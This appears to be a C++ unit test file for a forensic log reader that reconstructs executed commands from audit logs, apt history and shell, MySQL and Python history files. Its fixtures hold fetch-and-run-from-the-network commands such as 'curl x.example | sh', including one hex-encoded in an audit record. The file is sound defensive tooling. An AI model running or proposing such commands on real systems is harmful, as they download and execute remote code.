#include <gtest/gtest.h>

#include <algorithm>
#include <span>

#include "apt_history.hpp"
#include "audit_log.hpp"
#include "command_history.hpp"
#include "rescue/evidence/log_reader.hpp"
#include "temp_tree.hpp"

namespace rescue::evidence {
namespace {

std::vector<std::string> commands_of(const std::vector<std::string>& lines) {
  AuditLog log;
  EventBatch batch;
  std::uint64_t number = 1;
  for (const auto& line : lines) EXPECT_TRUE(log.add(line, number++, 0, batch)) << line;
  log.finish(batch);
  std::vector<std::string> out;
  for (const auto& event : batch.events) {
    if (event.kind != EventKind::kCommandRun) continue;
    out.push_back(std::to_string(event.position) + " " + format_rfc3339(event.time) +
                  " uid=" + std::string(event.field(FieldName::kUid)) + " " + std::string(event.account) +
                  ": " + std::string(event.field(FieldName::kCommand)));
  }
  return out;
}

TEST(AuditLog, JoinsInterleavedRecordsAndDecodesThem) {
  const auto told = commands_of({
      "type=SYSCALL msg=audit(1789264811.123:7): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=20 "
      "auid=1000 "
      "uid=1000 gid=1000 tty=pts0 comm=\"sh\" exe=\"/bin/sh\" key=\"x\"\x1d"
      "ARCH=x86_64 SYSCALL=execve AUID=\"u\" UID=\"web\"",
      "type=SYSCALL msg=audit(1789264811.124:8): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=21 "
      "auid=0 uid=0",
      "type=EXECVE msg=audit(1789264811.123:7): argc=3 a0=\"sh\" a1=\"-c\" "
      "a2=6375726C20782E6578616D706C65207C207368",
      "type=EXECVE msg=audit(1789264811.124:8): argc=2 a0=\"id\" a1_len=4 a1[0]=\"-\" a1[1]=\"u\"",
      "type=CWD msg=audit(1789264811.123:7): cwd=\"/tmp\"",
      "type=PROCTITLE msg=audit(1789264811.123:7): proctitle=7368002D63",
  });
  EXPECT_EQ(told,
            (std::vector<std::string>{"3 2026-09-13T02:00:11.123Z uid=1000 web: sh -c 'curl x.example | sh'",
                                      "4 2026-09-13T02:00:11.124Z uid=0 : id -u"}));
}

TEST(AuditLog, ReadsSudosRecord) {
  EXPECT_EQ(
      commands_of(
          {"node=h type=USER_CMD msg=audit(1789264811.123:7): pid=5 uid=1000 auid=1000 ses=1 msg='cwd=\"/\" "
           "cmd=6C73202F726F6F74 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'"}),
      std::vector<std::string>{"1 2026-09-13T02:00:11.123Z uid=1000 : ls /root"});
}

TEST(AuditLog, GivesOutAnEventWhoseSerialIsUsedAgain) {
  EXPECT_EQ(commands_of({"type=EXECVE msg=audit(1789264811.123:7): argc=1 a0=\"wget\"",
                         "type=EXECVE msg=audit(1789264812.123:7): argc=1 a0=\"id\""}),
            (std::vector<std::string>{"1 2026-09-13T02:00:11.123Z uid= : wget",
                                      "2 2026-09-13T02:00:12.123Z uid= : id"}));
}

TEST(AuditLog, SearchesALineOfPiecesABoundedNumberOfTimes) {
  std::string line = "type=EXECVE msg=audit(1789264811.123:7): argc=512";
  for (int i = 0; i < 512; ++i) line += " a" + std::to_string(i) + "[0]=x";
  line += std::string(64 * 1024, ' ');
  const auto told = commands_of({line});
  ASSERT_EQ(told.size(), 1U);
  EXPECT_TRUE(told[0].starts_with("1 2026-09-13T02:00:11.123Z uid= : x x x")) << told[0];
  EXPECT_LT(std::count(told[0].begin(), told[0].end(), 'x'), 20);
}

TEST(AuditLog, RefusesWhatIsNoRecord) {
  AuditLog log;
  EventBatch batch;
  for (const auto* line : {"", "type=", "type=X msg=audit(", "type=X msg=audit(1):",
                           "type=X msg=audit(-1.0:1): a=b", "type=X msg=audit(99999999999999.0:1): a=b"}) {
    EXPECT_FALSE(log.add(line, 1, 0, batch)) << line;
  }
}

TEST(AuditLog, IsReadAsALogOverBlocks) {
  TempTree tree;
  std::string text;
  for (int i = 0; i < 5000; ++i) {
    const auto stamp = " msg=audit(1789264811.123:" + std::to_string(i) + "): ";
    text += "type=SYSCALL" + stamp + "pid=1 uid=0 " + std::string(60, 'x') + "\n";
    text += "type=EXECVE" + stamp + "argc=1 a0=\"id\"\ntype=EOE" + stamp + "\n";
  }
  tree.write("/var/log/audit/audit.log", text);
  Gaps gaps;
  const auto root = tree.root();
  std::size_t commands = 0;
  const auto files = read_logs(
      root, find_logs(root, {}, gaps), TimeZone(), {},
      [&](std::span<const Event> events) {
        for (const auto& event : events) commands += event.kind == EventKind::kCommandRun ? 1 : 0;
      },
      gaps);
  EXPECT_EQ(commands, 5000U);
  EXPECT_TRUE(gaps.empty());
}

TEST(AptHistory, TellsWhatWasInstalledWhenAndForWhom) {
  const auto zone = TimeZone::fixed("JST", 9 * 3600);
  AptHistory reader(zone);
  std::vector<std::string> out;
  for (const std::string_view line :
       {"Install: stray:amd64 (1)", "Start-Date: 2026-09-13  11:00:11", "Commandline: apt-get install nmap",
        "Requested-By: deploy (1000)", "Install: nmap:amd64 (7.93), x:amd64 (1, automatic)",
        "End-Date: 2026-09-13  11:00:15", "Remove: stray:amd64 (1)", "Log started: 2026-09-14  01:00:00",
        "Setting up nmap (7.93) ...", "Log ended: 2026-09-14  01:00:02", "Start-Date: yesterday",
        "Purge: y:amd64 (1)"}) {
    Event event;
    if (!reader.add(line, event)) continue;
    out.push_back(format_rfc3339(event.time) + " " + std::string(event.account) + " " +
                  std::string(event.field(FieldName::kAction)) +
                  std::string(event.field(FieldName::kCommand)) + " " +
                  std::string(event.field(FieldName::kTarget)));
  }
  EXPECT_EQ(out, (std::vector<std::string>{
                     "2026-09-13T02:00:11.000Z root apt-get install nmap ",
                     "2026-09-13T02:00:11.000Z deploy install nmap:amd64 (7.93), x:amd64 (1, automatic)",
                     "2026-09-13T16:00:00.000Z  set up nmap (7.93) ..."}));
}

std::vector<std::string> history(std::string_view path, const std::vector<std::string>& lines) {
  CommandHistory reader(path);
  std::vector<std::string> out;
  for (const auto& line : lines) {
    Event event;
    if (!reader.add(line, event)) continue;
    const bool timed = event.precision != TimePrecision::kUnknown;
    out.push_back((timed ? format_rfc3339(event.time) + " " : "") +
                  std::string(event.field(FieldName::kCommand)));
  }
  return out;
}

TEST(CommandHistory, KnowsBashsAndZshsTimes) {
  EXPECT_EQ(history("/root/.bash_history", {"id", "#1789264811", "curl x | sh", "#not a time"}),
            (std::vector<std::string>{"id", "2026-09-13T02:00:11.000Z curl x | sh",
                                      "2026-09-13T02:00:11.000Z #not a time"}));
  EXPECT_EQ(history("/root/.zsh_history", {": 1789264811:0;curl x | sh"}),
            std::vector<std::string>{"2026-09-13T02:00:11.000Z curl x | sh"});
}

TEST(CommandHistory, OfDataBasesAndPythonTellsWhatAShellRan) {
  EXPECT_EQ(history("/root/.mysql_history", {"select 1;", "\\! id", "system curl x"}),
            (std::vector<std::string>{"id", "curl x"}));
  EXPECT_EQ(history("/root/.python_history", {"x = 1", "import os; os.system('curl x | sh')"}),
            std::vector<std::string>{"curl x | sh"});
}

}  // namespace
}  // namespace rescue::evidence
